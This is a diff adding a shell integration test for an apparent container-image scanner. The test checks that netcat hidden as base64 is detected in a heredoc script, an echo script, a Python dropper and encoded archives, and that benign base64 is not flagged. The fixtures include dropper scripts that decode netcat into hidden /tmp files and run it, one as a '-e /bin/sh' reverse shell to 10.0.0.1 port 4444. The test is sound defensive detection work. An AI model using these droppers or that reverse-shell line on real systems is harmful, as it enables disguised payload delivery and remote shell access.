@@ -1,0 +1,68 @@
+# Integration: programs and archives carried as base64 text (lib/yara/
+# b64find.c, read by nested.c): a real netcat from Debian, base64'ed by
+# coreutils' base64 and by Python, in a script that pipes it to
+# `base64 -d` (a heredoc and an echo), in a Python dropper without #!
+# that hands it to b64decode, in a .b64 file of its own, and a tar.gz of
+# it base64'ed. Each decodes with coreutils' `base64 -d` back to netcat
+# (what the run could do) and is found by netcat's rule with the member
+# "(base64)" named; benign base64 (Go's own test ELF, a base64 PNG-like
+# blob, a short run) gives nothing.
+. "$PC_ROOT/tests/lib.sh"
+
+fetch_all netcat-openbsd coreutils
+mkdir -p "$T/x" && dpkg-deb -x "$DEBS"/netcat-openbsd_*.deb "$T/x" || fail "unpack netcat-openbsd" "dpkg-deb failed"
+mkdir -p "$T/cu" && dpkg-deb -x "$DEBS"/coreutils_*.deb "$T/cu" || fail "unpack coreutils" "dpkg-deb failed"
+NC="$T/x/bin/nc.openbsd"
+E="$T/enc"
+mkdir -p "$E/t"
+b64=$(base64 -w 76 "$NC")
+{ printf '#!/bin/sh\nbase64 -d >/tmp/.x <<'"'"'EOF'"'"'\n'; printf '%s\n' "$b64"; printf 'EOF\nchmod +x /tmp/.x && exec /tmp/.x -l 4444\n'; } >"$E/heredoc.sh"
+{ printf '#!/bin/sh\necho "'; base64 -w 0 "$NC"; printf '" | base64 -d > /tmp/.y; chmod +x /tmp/.y; /tmp/.y -e /bin/sh 10.0.0.1 4444\n'; } >"$E/echo.sh"
+python3 - "$NC" "$E/dropper.py" <<'PY'
+import base64, sys
+data = open(sys.argv[1], "rb").read()
+open(sys.argv[2], "w").write("import base64, os\nBLOB = %r\nopen('/tmp/.z', 'wb').write(base64.b64decode(BLOB))\nos.chmod('/tmp/.z', 0o755)\n" % base64.b64encode(data).decode())
+PY
+base64 "$NC" >"$E/nc.b64"
+cp "$NC" "$E/t/helper" && tar czf "$E/t.tgz" -C "$E/t" helper && base64 "$E/t.tgz" >"$E/tool.tgz.b64"
+# what the run could do: coreutils' base64 -d gives netcat back
+B64D="$T/cu/usr/bin/base64"
+sed -n '3,/^EOF$/p' "$E/heredoc.sh" | sed '$d' | "$B64D" -d | cmp -s - "$NC" && pass "base64 -d gives netcat back from the heredoc" ||
+    fail "base64 -d gives netcat back from the heredoc" "it does not"
+"$B64D" -d "$E/nc.b64" | cmp -s - "$NC" && pass "base64 -d gives netcat back from the .b64 file" ||
+    fail "base64 -d gives netcat back from the .b64 file" "it does not"
+
+files="heredoc.sh echo.sh dropper.py nc.b64 tool.tgz.b64"
+jq -n --arg d "$E" --arg f "$files" '{tag: "latest", images: [{platform: "linux/amd64", config: {User: "1000", Entrypoint: ["/bin/true"]},
+    layers: [{compression: "gzip", entries: ([{path: "opt", type: "dir", mode: "0755"}] +
+        [$f | split(" ")[] | {path: "opt/\(.)", type: "file", mode: "0644", from_file: "\($d)/\(.)"}])}]}]}' >"$T/enc.json"
+"$FB" "$T/enc.json" "$T/enc-img" >"$T/fb.log" 2>&1 || fail "build enc" "$(head -c 600 "$T/fb.log")"
+printf '{"name": "tools-only", "checks": {"missing-entrypoint": {"action": "ignore"}, "entrypoint-unrunnable": {"action": "ignore"}}}\n' >"$T/tools-only.json"
+run "base64 netcat denied" 1 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/enc-img/oci:latest"
+while read -r f member; do
+    jq_true "encoded: $f: netcat found in $member" "[.reports[0].findings[] | select(.check == \"suspicious-tool\" and .path == \"/opt/$f\" and .rule == \"netcat_openbsd\" and (.message | endswith(\"as the archive member $member\")))] | length == 1"
+done <<'X'
+heredoc.sh (base64)
+echo.sh (base64)
+dropper.py (base64)
+nc.b64 (base64)
+tool.tgz.b64 (base64) > helper
+X
+
+# benign: Go's own test ELF in base64 (golang-*-src ships it), a long
+# base64 run that is no program, a short run of an ELF header
+mkdir -p "$E/neg"
+python3 - "$E/neg" <<'PY'
+import base64, os, sys
+d = sys.argv[1]
+elf = open("/bin/true", "rb").read()
+open(os.path.join(d, "a.elf.base64"), "w").write(base64.encodebytes(elf).decode())
+open(os.path.join(d, "blob.json"), "w").write('{"icon": "%s"}\n' % base64.b64encode(bytes(range(256)) * 40).decode())
+open(os.path.join(d, "short.txt"), "w").write("magic: %s\n" % base64.b64encode(elf[:40]).decode())
+PY
+files="a.elf.base64 blob.json short.txt"
+jq -n --arg d "$E/neg" --arg f "$files" '{tag: "latest", images: [{platform: "linux/amd64", config: {User: "1000", Entrypoint: ["/bin/true"]},
+    layers: [{compression: "gzip", entries: ([{path: "opt", type: "dir", mode: "0755"}] +
+        [$f | split(" ")[] | {path: "opt/\(.)", type: "file", mode: "0644", from_file: "\($d)/\(.)"}])}]}]}' >"$T/neg.json"
+"$FB" "$T/neg.json" "$T/neg-img" >"$T/fb.log" 2>&1 || fail "build neg" "$(head -c 600 "$T/fb.log")"
+run "benign base64 allowed" 0 "$PC" scan --cache-dir "$(fresh_cache)" --policy "$T/tools-only.json" --format json "oci:$T/neg-img/oci:latest"
